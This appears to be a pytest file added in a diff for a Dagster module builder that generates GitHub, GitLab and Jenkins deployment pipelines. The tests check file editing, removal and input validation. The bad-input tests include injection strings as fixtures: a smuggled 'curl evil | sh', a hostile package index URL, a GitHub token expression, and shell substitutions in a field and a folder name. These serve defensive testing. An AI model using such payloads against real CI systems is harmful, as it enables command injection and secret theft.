@@ -1,0 +1,310 @@
+"""Where a pipeline's file goes, beside what is there; that it comes and goes without a trace; and bad input."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import re
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from dagster_module_builder import pipeline
+from dagster_module_builder.audit.deployments import pipelines
+from dagster_module_builder.audit.subject import Subject
+from dagster_module_builder.configure_deployment import configure, questionnaire
+from dagster_module_builder.deploy_status import problems_here
+from dagster_module_builder.deployment import Deployment, read_deployment
+from dagster_module_builder.errors import BuilderError, RefusedError, UsageError
+from dagster_module_builder.transaction import commit_one
+from deploy_strategies.base import load_steps
+from tests.deploy.modules import make_module
+from tests.deploy.test_commands import run
+from tests.deploy.test_strategies import git
+
+REPOSITORY = Path(__file__).parents[2]
+PLATFORMS = ("github", "gitlab", "jenkins")
+FILES = {"github": ".github/workflows/deploy-yoda.yml", "gitlab": ".gitlab-ci.yml", "jenkins": "Jenkinsfile"}
+ANSWERS = {"deployment": "yoda", "client": "Yoda", "hosts": "yoda.example"}
+
+
+@pytest.fixture
+def module(tmp_path: Path) -> Path:
+    return make_module(tmp_path)
+
+
+def configured(module: Path, platform: str = "gitlab", **answers: str) -> Deployment:
+    root = module.parent.parent
+    return read_deployment(configure(root, module, "ci-cd", {**ANSWERS, "platform": platform, **answers}).folder)
+
+
+def made(module: Path, platform: str = "gitlab", **own: str) -> Deployment:
+    """Make a deployment as ``configured`` does, without the templates, which take a second."""
+    section = {"carries_out": "git", "platform": platform, "trigger": "push", "tool": "dagster-module-builder==0.1.0"}
+    data = {
+        "version": 1, "deployment": "yoda", "client": "Yoda", "module": module.name, "strategy": "ci-cd",
+        "hosts": [{"host": "yoda.example"}], "base_path": "/srv/dagster", "dagster": {"url": "http://127.0.0.1:3000"},
+        "ci-cd": {**section, **own},
+    }  # fmt: skip
+    folder = module / "deploy/yoda"
+    folder.mkdir(parents=True)
+    (folder / "deployment.yaml").write_text(yaml.safe_dump(data))
+    (folder / ".env.deploy").touch(0o600)
+    (folder / "known_hosts").touch()
+    deployment = read_deployment(folder)
+    write(deployment)
+    return deployment
+
+
+def write(deployment: Deployment, **options: bool) -> bytes | None:
+    change = pipeline.planned(deployment, **options)
+    commit_one(change)
+    return change.after
+
+
+def change_settings(deployment: Deployment, **own: Any) -> Deployment:
+    path = deployment.folder / "deployment.yaml"
+    data = yaml.safe_load(path.read_text())
+    data["ci-cd"].update(own)
+    path.write_text(yaml.safe_dump(data))
+    return read_deployment(deployment.folder)
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_comes_changes_and_goes(module: Path, platform: str) -> None:
+    deployment = made(module, platform)
+    path = module / FILES[platform]
+    first = path.read_bytes()
+    assert pipeline.problem(deployment) is None
+    assert write(deployment) == first
+    deployment = change_settings(deployment, branch="stable")
+    assert "is older than" in str(pipeline.problem(deployment))
+    assert b"stable" in (write(deployment) or b"")
+    assert write(change_settings(deployment, branch="main")) == first
+    assert write(deployment, remove=True) is None
+    assert not path.exists()
+    assert "is missing" in str(pipeline.problem(deployment))
+
+
+OTHERS = [
+    b"stages: [build, test, deploy]\n\nlint:\n  script: [ruff check]\n",
+    b"lint:\n  stage: test\n  script:\n    - |\n      # BEGIN: not_a_block\n      echo x\n# the end\n",
+    b"lint:\n  script: [ruff check]",
+    b"include:\r\n  - local: other.yml\r\nlint:\r\n  script: [a]\r\n",
+    b"# nothing but a comment\n",
+    b"---\nspec:\n  inputs: {}\n"[:4] + b"x: !reference [.y, script]\n",
+    b"",
+]
+
+
+@pytest.mark.parametrize("others", OTHERS)
+def test_jobs_of_others_stay_byte_for_byte(module: Path, others: bytes) -> None:
+    path = module / ".gitlab-ci.yml"
+    path.write_bytes(others)
+    deployment = made(module)
+    assert path.read_bytes().startswith(others)
+    text = path.read_text().replace("!reference", "")
+    assert {"sales-report-yoda deploy", "sales-report-yoda rollback"} <= set(yaml.safe_load(text))
+    before = path.read_bytes()
+    assert write(deployment) == before
+    assert (write(deployment, remove=True) or b"") == others
+
+
+def test_two_modules_in_one_file_in_any_order(tmp_path: Path, module: Path) -> None:
+    git(tmp_path, "init", "-q")
+    others = b"lint:\n  script: [ruff check]"
+    for first_out, second_out in itertools.permutations((0, 1)):
+        (tmp_path / ".gitlab-ci.yml").write_bytes(others)
+        stock = tmp_path / "projects/stock"
+        both = [made(module), made(stock if stock.exists() else make_module(tmp_path, "stock"))]
+        jobs = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text())
+        assert {"lint", "sales-report-yoda deploy", "stock-yoda deploy"} <= set(jobs)
+        write(both[first_out], remove=True)
+        assert pipeline.problem(both[second_out]) is None
+        assert write(both[second_out], remove=True) == others
+        for one in both:
+            subprocess.run(["rm", "-r", one.folder], check=True)
+
+
+@pytest.mark.parametrize(
+    ("stages", "expected"),
+    [
+        ("[build, test, deploy]", ("test", "deploy")),
+        ("[lint, ship]", ("lint", "ship")),
+        ("[deploy, test]", ("test", "test")),
+        ("[]", ("test", "deploy")),
+    ],
+)
+def test_stages_are_those_that_there_are(module: Path, stages: str, expected: tuple[str, str]) -> None:
+    (module / ".gitlab-ci.yml").write_text(f"stages: {stages}\nx:\n  script: [a]\n  stage: {expected[0]}\n")
+    made(module)
+    jobs = yaml.safe_load((module / ".gitlab-ci.yml").read_text())
+    assert (jobs["sales-report-yoda test"]["stage"], jobs[".sales-report-yoda on the hosts"]["stage"]) == expected
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_edits_are_neither_lost_nor_overwritten(module: Path, platform: str) -> None:
+    deployment = made(module, platform)
+    path = module / FILES[platform]
+    edited = re.sub(r"yoda --module", "yoda --drain --module", path.read_text())
+    path.write_text(edited)
+    for options in ({}, {"remove": True}):
+        with pytest.raises(RefusedError, match="edited by hand"):
+            write(deployment, **options)
+    assert path.read_text() == edited
+    assert "edited by hand" in str(pipeline.problem(deployment))
+    write(deployment, force=True)
+    assert "--drain" not in path.read_text()
+
+
+def test_jobs_added_to_a_workflow_stay(module: Path) -> None:
+    deployment = made(module, "github")
+    path = module / FILES["github"]
+    added = b"\n  tell:\n    runs-on: ubuntu-24.04\n    steps: [{run: echo done}]\n"
+    path.write_bytes(path.read_bytes() + added)
+    assert (write(change_settings(deployment, branch="stable")) or b"").endswith(added)
+    assert "tell" in yaml.safe_load(path.read_text())["jobs"]
+
+
+@pytest.mark.parametrize(
+    ("platform", "beside"),
+    [("github", ".github/workflows/deploy-yoda-sales-report.yml"), ("jenkins", "Jenkinsfile.yoda")],
+)
+def test_files_of_others_are_left_alone(module: Path, platform: str, beside: str) -> None:
+    path = module / FILES[platform]
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text("somebody's\n")
+    deployment = made(module, platform)
+    assert path.read_text() == "somebody's\n"
+    assert pipeline.find(deployment).path == module / beside
+    path.unlink()
+    assert pipeline.find(deployment).path == module / beside
+
+
+def test_no_place_leaves_no_deployment(module: Path) -> None:
+    for place in ("deploy-yoda.yml", "deploy-yoda-sales-report.yml"):
+        (module / ".github/workflows").mkdir(parents=True, exist_ok=True)
+        (module / ".github/workflows" / place).write_text("somebody's\n")
+    with pytest.raises(RefusedError, match="belong to somebody else"):
+        configured(module, "github")
+    assert not (module / "deploy/yoda").exists()
+
+
+@pytest.mark.parametrize(
+    "text", ["- a\n- b\n", "{a: 1}\n", "a: [\n", "  a: 1\n  b: 2\n", "'sales-report-yoda deploy': {}\n", "# BEGIN: x\n"]
+)
+def test_files_that_cannot_be_edited_are_refused(module: Path, text: str) -> None:
+    (module / ".gitlab-ci.yml").write_text(text)
+    with pytest.raises(BuilderError):
+        made(module)
+    assert (module / ".gitlab-ci.yml").read_text() == text
+
+
+@pytest.mark.parametrize(
+    "answers",
+    [
+        {"platform": "travis"},
+        {"trigger": "never"},
+        {"carries_out": "ci-cd"},
+        {"tool": "x'; curl evil | sh; '"},
+        {"tool": "--index-url=https://evil.example x"},
+        {"tool": "${{ github.token }}"},
+        {"trigger_branch": "main' || true"},
+        {"trigger_tag": "$(x)"},
+        {"runner": "a b"},
+    ],
+)
+def test_bad_answers_leave_nothing(module: Path, answers: dict[str, str]) -> None:
+    with pytest.raises((UsageError, RefusedError)):
+        configured(module, **{"platform": "github", **answers})
+    assert not (module / ".github").exists()
+    assert not (module / "deploy/yoda").exists()
+
+
+def test_odd_folders_are_refused(tmp_path: Path) -> None:
+    git(tmp_path, "init", "-q")
+    module = make_module(tmp_path / "a 'b' $(touch oops)")
+    with pytest.raises(RefusedError, match="letters, digits"):
+        made(module)
+
+
+@pytest.mark.parametrize(("platform", "carried"), [("github", "git"), ("gitlab", "rsync"), ("jenkins", "docker")])
+def test_whatever_it_carries_out(module: Path, platform: str, carried: str) -> None:
+    deployment = configured(module, platform, carries_out=carried)
+    assert (deployment.strategy, deployment.data["strategy"]) == (carried, "ci-cd")
+    assert set(deployment.own) <= {one.name for one in questionnaire(carried)} | {"path"}
+    guide = (deployment.folder / "DEPLOYMENT.md").read_text()
+    assert "DEPLOY_SSH_KEY" in guide
+    assert "### By hand" in guide
+    assert "{{" not in guide
+    assert "cookiecutter" not in guide
+    assert (deployment.folder / ".env.deploy").stat().st_mode & 0o777 == 0o600
+
+
+def test_questions_that_both_ask_in_different_words(module: Path) -> None:
+    names = [one.name for one in questionnaire("ci-cd", "docker")]
+    assert len(names) == len(set(names))
+    assert {"platform", "docker_platform", "registry"} <= set(names)
+    deployment = configured(
+        module, "github", carries_out="docker", docker_platform="linux/arm64", registry="r.example:5000"
+    )
+    assert deployment.own["platform"] == "linux/arm64"
+    assert "DEPLOY_REGISTRY_PASSWORD: ${{ secrets.DEPLOY_REGISTRY_PASSWORD }}" in (module / FILES["github"]).read_text()
+
+
+def test_actions_are_pinned_as_in_the_modules() -> None:
+    (template,) = REPOSITORY.glob("cookiecutter-dagster-module/*/.github/workflows/ci.yml")
+    assert load_steps("ci-cd").__module__.endswith("ci_cd")
+    steps = (REPOSITORY / "deploy_strategies/ci-cd/steps.py").read_text()
+    (pinned,) = re.findall(r'"(actions/checkout@[0-9a-f]{40} # v[\d.]+)"', steps)
+    assert pinned in template.read_text()
+
+
+def test_what_is_in_its_way_is_told(module: Path) -> None:
+    git(module, "init", "-q")
+    deployment = made(module)
+    said = "\n".join(problems_here(deployment))
+    for name in (".gitlab-ci.yml", "deploy/yoda/deployment.yaml", "deploy/yoda/known_hosts"):
+        assert f"{name} is not committed" in said
+    assert "deploy.trust yoda" in said
+    deployment.known_hosts.write_text("yoda.example ssh-ed25519 AAAA\n")
+    git(module, "add", "-A")
+    git(module, "commit", "-qm", "x")
+    assert "pipeline" not in "\n".join(problems_here(deployment))
+
+
+def test_audit_knows_pipelines(module: Path) -> None:
+    deployment = made(module)
+    subject = Subject(module, module.parent.parent)
+    assert list(pipelines(subject)) == []
+    change_settings(deployment, trigger="manual")
+    (found,) = pipelines(subject)
+    assert "is older than" in found.message
+    (module / ".gitlab-ci.yml").unlink()
+    (found,) = pipelines(subject)
+    assert "is missing" in found.message
+
+
+def test_from_the_command_line(tmp_path: Path, module: Path) -> None:
+    flags = ["--deployment", "yoda", "--client", "Yoda", "--hosts", "yoda.example", "--strategy", "ci-cd"]
+    answers = [part for one in ("platform=gitlab", "carries_out=rsync", "exclude=notes") for part in ("--set", one)]
+    said = run(tmp_path, "configure-deployment", "sales-report", *flags, *answers)
+    assert said.returncode == 0, said
+    assert str(module / ".gitlab-ci.yml") in said.stdout
+    (listed,) = json.loads(run(tmp_path, "deploy.list", "--json").stdout)
+    assert (listed["strategy"], listed["carries out"]) == ("ci-cd", "rsync")
+    said = run(tmp_path, "deploy", "yoda", "--allow-dirty")
+    assert said.returncode == 1
+    assert "GitLab CI/CD on a push to main (.gitlab-ci.yml)" in said.stderr
+    assert "--local" in said.stderr
+    local = run(tmp_path, "deploy", "yoda", "--allow-dirty", "--local")
+    assert "--local" not in local.stderr
+    assert "up to date" in run(tmp_path, "deploy.pipeline", "yoda").stdout
+    assert "-sales-report-yoda deploy" in run(tmp_path, "deploy.pipeline", "yoda", "--remove", "--dry-run").stdout
+    assert "removed" in run(tmp_path, "deploy.pipeline", "yoda", "--remove").stdout
+    assert not (module / ".gitlab-ci.yml").exists()
+    said = run(tmp_path, "configure-deployment", "sales-report", *flags, "--set", "colour=blue")
+    assert said.returncode == 2
